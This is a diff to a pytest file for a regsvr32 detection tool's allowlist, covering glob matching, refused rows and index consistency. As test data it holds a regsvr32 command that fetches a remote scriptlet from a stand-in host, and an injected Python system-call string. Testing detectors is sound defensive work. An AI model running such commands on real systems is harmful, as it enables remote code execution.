@@ -1,13 +1,20 @@
 """Allowlist loading (bad rows reported with file and line) and matching semantics."""
 import datetime
+import io
+import random
+import re
 
 import pytest
 
 from regsvr32_detector import Detector, load_allowlists
-from regsvr32_detector.allowlist import Glob
+from regsvr32_detector.allowlist import Allowlist, Entry, Glob
+from regsvr32_detector.allowlist_columns import COLUMNS, FOLD, MATCHERS, Facts
+from regsvr32_detector.fields import normalize
 from events import proc
 
+from allowlist_table import README, section, table
 from allowlists import HEADER, allowlist_row
+from events import DEFAULT_ALLOWLIST
 
 
 @pytest.mark.parametrize("pattern, value, matches", [
@@ -97,3 +104,130 @@ def test_regex_and_code_in_cells_are_plain_text(tmp_path):
         rule_id="R32-007", module="(?i).*__import__('os').system('x')", reason="r"))
     assert not problems
     assert "R32-007" in Detector(allowlist).evaluate(proc(CMD)).rules
+
+
+# --- matching agrees with a plain translation, '?' next to '*' included ---------------------------
+def _reference(pattern, value):
+    rx = "".join(".*" if c == "*" else "." if c == "?" else re.escape(c) for c in pattern)
+    return re.fullmatch(rx, value, re.S) is not None
+
+
+@pytest.mark.parametrize("pattern, value, matches", [
+    ("*??z*", "abz", True), ("*??z*", "az", False), ("a*?", "a", False), ("a*?", "ab", True),
+    ("x*??*y", "xy", False), ("x*??*y", "xaby", True), ("*a?b*", "xxaqbyy", True),
+    ("*???*", "ab", False), ("*???*", "abc", True), ("?*?", "a", False), ("*z??", "zab", True),
+    ("*z??", "zabz", False), ("*z?*z", "zz", False), ("*z?*z", "zaz", True),
+])
+def test_question_marks_next_to_stars(pattern, value, matches):
+    assert Glob(pattern).match(value) is matches is _reference(pattern, value)
+
+
+@pytest.mark.parametrize("pattern, text", [("**", "*"), ("*?*?", "??*"), ("a*?b", "a?*b"), ("?", "?"),
+                                           ("x**y?z", "x*y?z"), ("*?*", "?*")])
+def test_runs_of_wildcards_are_written_one_way(pattern, text):
+    assert Glob(pattern).text == text
+
+
+def test_random_globs_agree_with_the_reference():
+    rnd = random.Random(9)
+    for _ in range(6000):
+        pattern = "".join(rnd.choice("ab*?") for _ in range(rnd.randint(1, 9)))
+        value = "".join(rnd.choice("abc") for _ in range(rnd.randint(0, 8)))
+        assert Glob(pattern).match(value) is _reference(pattern, value), (pattern, value)
+
+
+def test_question_marks_by_a_star_are_a_count_not_a_search():
+    # Issue 12 item 9: * + 4000 ? + z* searched with 4000 dots at every position of the line
+    # (2.9 s per 1 MB). Now it is one plain search for 'z' that starts 4000 characters on.
+    glob = Glob("*" + "?" * 4000 + "z*")
+    assert glob.match("a" * 5000) is False and glob.match("a" * 4000 + "z") is True
+    assert glob.match("a" * 3999 + "z") is False
+    first, middles, _ = glob._parts
+    assert first[0] == "?" * 4000 and middles == ((0, ("z", None), 0),)
+
+
+@pytest.mark.parametrize("count, refused", [(32, False), (64, False), (65, True), (4000, True)])
+def test_too_many_question_marks_are_refused(tmp_path, count, refused):
+    cell = "*" + "?" * count + "z*"
+    _, problems = _load(tmp_path, HEADER + allowlist_row(rule_id="R32-007", command_line=cell, reason="r"))
+    assert bool(problems) is refused
+    if refused:
+        assert "'command_line' has %d '?' wildcards; at most 64" % count in str(problems[0])
+
+
+# --- a row that would clear everything ----------------------------------------------------------
+@pytest.mark.parametrize("cells", [{"image": "*"}, {"image": "**"}, {"image": "?*"}, {"user": "*?*"},
+                                   {"image": "*", "host": "??*"}])
+def test_a_wildcard_rule_with_wildcard_only_cells_is_refused(tmp_path, cells):
+    allowlist, problems = _load(tmp_path, HEADER + allowlist_row(rule_id="*", reason="temp", **cells)
+                                + allowlist_row(rule_id="R32-00*", reason="temp", **cells))
+    assert len(allowlist) == 0 and [p.line for p in problems] == [2, 3]
+    assert "any value (wildcards only)" in problems[0].message
+    assert "row skipped" in problems[0].message
+
+
+def test_a_wildcard_only_cell_is_fine_next_to_a_real_one_or_for_one_rule(tmp_path):
+    allowlist, problems = _load(tmp_path, HEADER + allowlist_row(rule_id="*", image="*", host="ws-1", reason="r")
+                                + allowlist_row(rule_id="R32-007", module="?*", reason="r"))
+    assert not problems and len(allowlist) == 2
+    assert "R32-007" not in Detector(allowlist).evaluate(proc(CMD)).rules
+
+
+# --- the index finds exactly the rows a full scan finds -----------------------------------------
+PIECES = ["a", "b", "ab", "c:\\x", "\\y", ".dll", "-"]
+
+
+def _random_cell(rnd):
+    out = "".join(rnd.choice(PIECES + ["*", "?", "*"]) for _ in range(rnd.randint(1, 4)))
+    return out if out.strip("*?") else out + "a"
+
+
+def _random_value(rnd):
+    return "".join(rnd.choice(PIECES) for _ in range(rnd.randint(1, 5)))
+
+
+@pytest.mark.parametrize("few", [0, Allowlist.FEW])     # substrings looked up, or searched for
+@pytest.mark.parametrize("seed", range(4))
+def test_index_agrees_with_a_full_scan(monkeypatch, seed, few):
+    monkeypatch.setattr(Allowlist, "FEW", few)
+    rnd = random.Random(seed)
+    columns = ("image", "module", "host")
+    entries = []
+    for line in range(2, 300):
+        cells = dict((c, _random_cell(rnd)) for c in rnd.sample(columns, rnd.choice([0] + [1, 2, 3] * 9)))
+        rule = rnd.choice(["R32-001", "R32-002", "*", "R32-00?"]) if cells else "R32-001"
+        glob = dict((c, Glob(v)) for c, v in cells.items())
+        entries.append(Entry(Glob(rule), tuple(sorted(glob.items())), "r", "", None, "x.csv", line))
+    allowlist = Allowlist(entries)
+    today = datetime.date(2026, 1, 1)
+    found = 0
+    for _ in range(600):
+        facts = dict((c, tuple(_random_value(rnd) for _ in range(rnd.choice([0, 1, 1, 2])))) for c in columns)
+        rules = rnd.sample(["R32-001", "R32-002", "R32-003"], 2)
+        want = {}
+        for rule in rules:
+            hit = next((e for e in entries if e.rule.match(rule.lower()) and e.matches(facts)), None)
+            if hit is not None:
+                want[rule] = hit
+        assert allowlist.suppress(rules, facts, today) == want, facts
+        found += len(want)
+    assert 100 < found < 1000         # both answers occur often: the comparison is not vacuous
+
+
+def test_column_table_drives_header_folding_and_facts():
+    # One table: every matcher column has a fold for cells and a source of event values.
+    assert COLUMNS[0] == "rule_id" and COLUMNS[1:1 + len(MATCHERS)] == MATCHERS
+    with open(DEFAULT_ALLOWLIST, encoding="utf-8") as f:
+        assert tuple(f.readline().strip().split(",")) == COLUMNS
+    event = normalize(proc("regsvr32 /s /i:http://Evil.example/a.sct C:/Users/Public/A.DLL"))
+    facts = Facts(event)
+    assert set(FOLD) == set(MATCHERS)
+    assert [facts.get(c) for c in MATCHERS] == [
+        ("c:\\windows\\system32\\regsvr32.exe",), ("c:\\windows\\system32\\cmd.exe",),
+        ("regsvr32 /s /i:http://evil.example/a.sct c:/users/public/a.dll",),
+        ("c:\\users\\public\\a.dll",), ("evil.example",), (), (), (), ("corp\\alice",), ("ws01",)]
+
+
+def test_readme_column_table_matches_the_column_table():
+    with io.open(README, encoding="utf-8") as f:
+        assert section(f.read()) == table(), "run: python3 tests/allowlist_table.py --write"
